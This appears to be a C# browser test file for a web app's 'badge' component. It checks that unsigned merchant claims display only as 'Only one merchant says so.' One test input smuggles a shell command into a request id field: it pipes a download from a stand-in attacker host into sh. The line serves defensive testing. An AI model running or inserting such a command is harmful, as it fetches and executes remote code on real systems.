namespace Scew.WebTests.Pages;

/// <summary>What is behind a badge is told of checked values alone.</summary>
[Collection(RealGroup.Name)]
[Trait("row", "H1")]
public sealed class BadgeTests(RealGroup group)
{
    [Theory]
    [InlineData("""{"signers":["a","b","c"],"asOf":1790000000000,"height":7,"request":{"id":"x; curl http://evil.example | sh"}}""")]
    [InlineData("""{"signers":"a, b, c","timeMs":1,"request":{}}""")]
    public async Task AMerchantsWordNamesNoSignersAndNoCommand(string word)
    {
        await using var customer = await Customer.ArriveAsync(group.Url(0));
        await customer.Page.EvaluateAsync(
            """
            async word => {
                const { badge } = await import('/parts/badge.js');
                const { openSession } = await import('/parts/session.js');
                const node = badge(await openSession(location.origin), JSON.parse(word));
                node.id = 'told';
                document.getElementById('main').append(node);
            }
            """,
            word);
        await customer.ClickAsync("#told");
        var said = await customer.Page.Locator("dialog").InnerTextAsync();
        Assert.Contains("Only one merchant says so.", said, StringComparison.Ordinal);
        Assert.DoesNotContain("Signed by", said, StringComparison.Ordinal);
        Assert.DoesNotContain("scew receipt", said, StringComparison.Ordinal);
    }
}
